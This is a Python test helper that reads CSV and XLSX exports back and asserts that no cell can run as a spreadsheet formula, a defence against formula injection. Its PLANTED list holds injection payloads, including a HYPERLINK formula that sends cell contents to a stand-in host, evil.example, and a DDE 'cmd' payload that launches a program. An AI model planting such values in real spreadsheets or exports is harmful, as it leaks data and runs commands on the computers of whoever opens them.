"""Reading an export back as a spreadsheet would, to check that no cell is a
formula (shared by the export tests of every app)."""

import csv
import io

from openpyxl import load_workbook

from core.tables import FORMULA_STARTS

# What people typed, each something a spreadsheet would run as a formula.
PLANTED = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?d="&A2,"Details")',
    "=cmd|' /C calc'!A0",
]


def _number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_rows(content):
    """The rows of a CSV export; asserts no cell would start a formula."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(FORMULA_STARTS) or _number(cell), repr(cell)
    return rows


def xlsx_rows(content):
    """The rows of an XLSX export's values; asserts no cell is a formula or
    text that would start one."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    rows = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", repr(cell.value)
            assert not (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))
        rows.append([cell.value for cell in row])
    return rows


def quoted(value, *, xlsx=False):
    """How a planted value reads back: behind a quote (and, in XLSX, with a
    carriage return read as a line break, as XML reads it)."""
    return "'" + (value.replace("\r", "\n") if xlsx else value)
